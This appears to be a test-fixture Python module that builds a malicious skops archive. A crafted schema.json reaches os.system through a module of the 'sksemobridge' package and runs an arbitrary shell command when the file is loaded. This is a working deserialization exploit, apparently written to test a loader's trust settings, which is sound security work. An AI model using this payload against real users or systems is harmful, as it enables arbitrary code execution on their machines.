"""Prepared files of skops."""

import io
import json
import os
import sys
from zipfile import ZipFile


def file_that_runs(command):
    """A file of skops that runs a command of the shell where all names within this package are trusted.

    It calls `os.system`, which it finds through a module of this package that imports `os`. skops calls the types of
    the keys of a mapping.
    """
    through = next(
        name
        for name, module in sorted(sys.modules.items())
        if name.startswith("sksemobridge.") and getattr(module, "os", None) is os
    )
    named = {"__class__": "os", "__module__": through}
    system = named | {
        "__loader__": "MethodNode",
        "content": {"func": "system", "obj": named | {"__loader__": "FunctionNode"}},
    }
    key_types = {
        "__class__": "list",
        "__module__": "builtins",
        "__loader__": "ListNode",
        "content": [system],
    }
    value = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": "1"}
    schema = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {command: value},
        "key_types": key_types,
        "protocol": 2,
        "_skops_version": "0.16.0",
    }
    file = io.BytesIO()
    with ZipFile(file, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return file.getvalue()
